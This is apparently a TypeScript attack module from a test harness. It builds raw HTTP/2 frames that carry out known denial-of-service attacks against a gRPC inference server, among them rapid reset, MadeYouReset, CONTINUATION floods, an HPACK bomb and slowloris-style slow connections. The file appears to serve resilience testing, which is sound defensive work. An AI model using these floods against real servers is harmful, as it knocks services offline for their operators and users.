/** The known attacks on HTTP/2, as raw frames. */

import { frame } from '../../support/wire/raw-frames.js';
import { type Attack, lanes, pause, type Target, turn, write } from '../attack.js';
import { inferMessage } from '../infer-message.js';
import { call, callHeaders, FLAG, FRAME, headerBlock, opening, RawHttp2, rpc, settings, uint32 } from '../raw-http2.js';

const INFER = rpc('ModelInfer');
const LIVE = rpc('ServerLive');
const NOTHING = new Uint8Array(0);

/** Repeats what `part` returns on connections that are opened again when the server ends them. */
function flood(
  name: string,
  about: string,
  part: (connection: RawHttp2) => readonly Uint8Array[],
  options: {
    readonly lanes?: number;
    readonly entries?: readonly (readonly [number, number])[];
    readonly reads?: boolean;
  } = {},
): Attack {
  return {
    name,
    about,
    async run(target) {
      await lanes(target, options.lanes ?? 4, async () => {
        const connection = await RawHttp2.open(target, options.entries);
        if (options.reads === false) connection.socket.pause();
        while (target.going() && !connection.closed && connection.nextStream < 2 ** 30) {
          const frames = part(connection);
          await connection.write(Buffer.concat(frames));
          target.sent(frames.length);
          await turn();
        }
        connection.socket.destroy();
      });
    },
  };
}

const times = <T>(count: number, make: (i: number) => T): T[] => Array.from({ length: count }, (_, i) => make(i));

/** A call, then a stream error that makes the server reset it (CVE-2025-8671). */
function provoke(how: (stream: number) => Uint8Array): (connection: RawHttp2) => Uint8Array[] {
  const body = inferMessage('queued');
  return (connection) =>
    times(50, () => {
      const stream = connection.stream();
      return Buffer.concat([call(stream, INFER, body), how(stream)]);
    });
}

/** All of them. */
export const HTTP2_ATTACKS: readonly Attack[] = [
  flood('h2-rapid-reset', 'calls that are reset at once (CVE-2023-44487)', (connection) =>
    times(50, () => {
      const stream = connection.stream();
      return Buffer.concat([
        call(stream, INFER, inferMessage('queued')),
        frame(FRAME.RST_STREAM, 0, stream, uint32(8)),
      ]);
    }),
  ),
  flood(
    'h2-made-you-reset',
    'calls with a window update of 0, for which the server resets them (CVE-2025-8671)',
    provoke((stream) => frame(FRAME.WINDOW_UPDATE, 0, stream, uint32(0))),
  ),
  flood(
    'h2-made-you-reset-data',
    'calls with DATA behind their end',
    provoke((stream) => frame(FRAME.DATA, 0, stream, Buffer.alloc(1))),
  ),
  flood(
    'h2-made-you-reset-priority',
    'calls that depend on themselves',
    provoke((stream) => frame(FRAME.PRIORITY, 0, stream, Buffer.concat([uint32(stream), Buffer.alloc(1)]))),
  ),
  flood(
    'h2-made-you-reset-window',
    'calls whose windows overflow',
    provoke((stream) => frame(FRAME.WINDOW_UPDATE, 0, stream, uint32(0x7fffffff))),
  ),
  flood(
    'h2-settings',
    'SETTINGS without end',
    () => times(500, () => frame(FRAME.SETTINGS, 0, 0, settings([[4, 65535]]))),
    { reads: false },
  ),
  flood('h2-settings-table', 'the size of the header table up and down, with calls between', (connection) =>
    times(50, (i) =>
      Buffer.concat([
        frame(FRAME.SETTINGS, 0, 0, settings([[1, i % 2 === 0 ? 0 : 4096]])),
        call(connection.stream(), LIVE, NOTHING),
      ]),
    ),
  ),
  {
    name: 'h2-settings-window',
    about: 'thousands of open streams, then INITIAL_WINDOW_SIZE up and down',
    async run(target) {
      await lanes(target, 2, async () => {
        const connection = await RawHttp2.open(target);
        const headers = callHeaders(rpc('ModelStreamInfer'));
        for (let i = 0; i < 2000; i++)
          await connection.write(frame(FRAME.HEADERS, FLAG.END_HEADERS, connection.stream(), headers));
        while (target.going() && !connection.closed) {
          await connection.write(
            Buffer.concat(times(1000, (i) => frame(FRAME.SETTINGS, 0, 0, settings([[4, i % 2 === 0 ? 1 : 65535]])))),
          );
          target.sent(1000);
          await turn();
        }
        connection.socket.destroy();
      });
    },
  },
  flood(
    'h2-ping',
    'PING without end, on connections that do not read',
    () => times(500, () => frame(FRAME.PING, 0, 0, Buffer.alloc(8, 'p'))),
    { reads: false },
  ),
  flood('h2-ping-read', 'PING without end, acknowledgements read', () =>
    times(500, () => frame(FRAME.PING, 0, 0, Buffer.alloc(8, 'p'))),
  ),
  flood('h2-empty-data', 'empty DATA frames on an open stream', (connection) => {
    const first =
      connection.nextStream === 1
        ? [frame(FRAME.HEADERS, FLAG.END_HEADERS, connection.stream(), callHeaders(rpc('ModelStreamInfer')))]
        : [];
    return [...first, ...times(1000, () => frame(FRAME.DATA, 0, 1, NOTHING))];
  }),
  flood('h2-window-update', 'window updates of 1, for the connection and a stream', (connection) => {
    const first =
      connection.nextStream === 1
        ? [frame(FRAME.HEADERS, FLAG.END_HEADERS, connection.stream(), callHeaders(rpc('ModelStreamInfer')))]
        : [];
    return [...first, ...times(1000, (i) => frame(FRAME.WINDOW_UPDATE, 0, i % 2, uint32(1)))];
  }),
  flood('h2-priority', 'PRIORITY of streams that were never opened', (connection) =>
    times(1000, () => frame(FRAME.PRIORITY, 0, connection.stream(), Buffer.concat([uint32(0), Buffer.alloc(1)]))),
  ),
  flood('h2-unknown', 'frames of unknown types', () =>
    times(500, (i) => frame(0x20 + (i % 100), 255, i, Buffer.alloc(100))),
  ),
  flood('h2-goaway', 'GOAWAY again and again, with calls between', (connection) =>
    times(50, () =>
      Buffer.concat([
        frame(FRAME.GOAWAY, 0, 0, Buffer.concat([uint32(0), uint32(0), Buffer.alloc(1000, 'g')])),
        call(connection.stream(), LIVE, NOTHING),
      ]),
    ),
  ),
  flood('h2-hpack-bomb', 'an entry of 4 KB in the header table, named 16,000 times by each block', (connection) => {
    const big = Buffer.concat([Buffer.from([0x40, 1, 0x78, 127, 0x81, 0x1e]), Buffer.alloc(4000, 'x')]);
    const first =
      connection.nextStream === 1
        ? [
            frame(
              FRAME.HEADERS,
              FLAG.END_HEADERS | FLAG.END_STREAM,
              connection.stream(),
              Buffer.concat([callHeaders(LIVE), big]),
            ),
          ]
        : [];
    return [
      ...first,
      ...times(4, () =>
        frame(FRAME.HEADERS, FLAG.END_HEADERS | FLAG.END_STREAM, connection.stream(), Buffer.alloc(16000, 0xbe)),
      ),
    ];
  }),
  flood('h2-headers-many', 'a thousand fields in each block, empty names too', (connection) =>
    times(4, (i) =>
      frame(
        FRAME.HEADERS,
        FLAG.END_HEADERS | FLAG.END_STREAM,
        connection.stream(),
        Buffer.concat([callHeaders(LIVE), headerBlock(times(1000, (n) => [i % 2 === 0 ? '' : `n${n}`, 'v']))]),
      ),
    ),
  ),
  {
    name: 'h2-continuation',
    about: 'header blocks that never end (CVE-2024-27316), full and empty pieces',
    async run(target) {
      await lanes(target, 4, async (lane) => {
        const connection = await RawHttp2.open(target);
        await connection.write(frame(FRAME.HEADERS, 0, 1, callHeaders(INFER)));
        const piece = lane % 2 === 0 ? headerBlock(times(300, (n) => [`x-${n}`, 'v'.repeat(40)])) : NOTHING;
        const part = Buffer.concat(
          times(lane % 2 === 0 ? 4 : 1000, () => frame(FRAME.CONTINUATION, 0, 1, piece.subarray(0, 16384))),
        );
        while (target.going() && !connection.closed) {
          await connection.write(part);
          target.sent(lane % 2 === 0 ? 4 : 1000);
          await turn();
        }
        connection.socket.destroy();
      });
    },
  },
  {
    name: 'h2-slow-preface',
    about: '500 connections that send the preface a byte at a time',
    run: (target) => slowly(target, 500, opening()),
  },
  {
    name: 'h2-slow-headers',
    about: '500 connections in the middle of a header block or of a frame',
    async run(target) {
      await lanes(target, 500, async (lane) => {
        const socket = await target.connect(target.grpcPort);
        const open =
          lane % 2 === 0
            ? frame(FRAME.HEADERS, 0, 1, callHeaders(INFER))
            : frame(FRAME.DATA, 0, 1, Buffer.alloc(16384)).subarray(0, 19);
        await write(target, socket, Buffer.concat([opening(), open]));
        target.sent();
        while (target.going() && !socket.destroyed) await pause(50);
      });
    },
  },
  {
    name: 'h2-slow-read',
    about: 'calls with large responses behind windows of one byte',
    async run(target) {
      await lanes(target, 10, async () => {
        const connection = await RawHttp2.open(target, [[4, 1]], false);
        for (let i = 0; i < 90 && target.going() && !connection.closed; i++) {
          await connection.call(INFER, inferMessage('wide', 2 ** 18));
          target.sent();
        }
        while (target.going() && !connection.closed) await pause(20);
        connection.socket.destroy();
      });
    },
  },
  {
    name: 'h2-streams',
    about: 'as many open streams as it goes on many connections',
    async run(target) {
      const headers = callHeaders(rpc('ModelStreamInfer'));
      await lanes(target, 30, async () => {
        const connection = await RawHttp2.open(target);
        while (target.going() && !connection.closed && connection.nextStream < 20_000) {
          await connection.write(
            Buffer.concat(times(100, () => frame(FRAME.HEADERS, FLAG.END_HEADERS, connection.stream(), headers))),
          );
          target.sent(100);
          await turn();
        }
        while (target.going() && !connection.closed) await pause(20);
        connection.socket.destroy();
      });
    },
  },
  {
    name: 'h2-padding',
    about: 'DATA that is nothing but padding',
    async run(target) {
      await lanes(target, 4, async () => {
        const connection = await RawHttp2.open(target);
        const padding = Buffer.alloc(256);
        padding[0] = 255;
        await connection.write(
          frame(FRAME.HEADERS, FLAG.END_HEADERS, connection.stream(), callHeaders(rpc('ModelStreamInfer'))),
        );
        const part = Buffer.concat(times(100, () => frame(FRAME.DATA, 8, 1, padding)));
        while (target.going() && !connection.closed) {
          await connection.write(part);
          target.sent(100);
          await turn();
        }
        connection.socket.destroy();
      });
    },
  },
  {
    name: 'h2-stage',
    about: 'PING, GOAWAY and SETTINGS with random contents between large responses: no foreign byte may come (A1)',
    async run(target) {
      await lanes(target, 6, async () => {
        const connection = await RawHttp2.open(target);
        for (let i = 0; i < 100 && target.going() && !connection.closed; i++) {
          const payload = Buffer.from(Array.from({ length: 8 }, () => Math.floor(Math.random() * 256)));
          await connection.call(INFER, inferMessage('wide', 4096 * (1 + (i % 7))));
          await connection.write(Buffer.concat(times(5, () => frame(FRAME.PING, 0, 0, payload))));
          target.sent(6);
          await pause(1);
        }
        connection.socket.destroy();
      });
    },
  },
];

async function slowly(target: Target, count: number, bytes: Buffer): Promise<void> {
  await lanes(target, count, async () => {
    const socket = await target.connect(target.grpcPort);
    target.sent();
    for (let at = 0; at < bytes.length && target.going() && !socket.destroyed; at++) {
      socket.write(bytes.subarray(at, at + 1));
      await pause(200);
    }
    socket.destroy();
  });
}
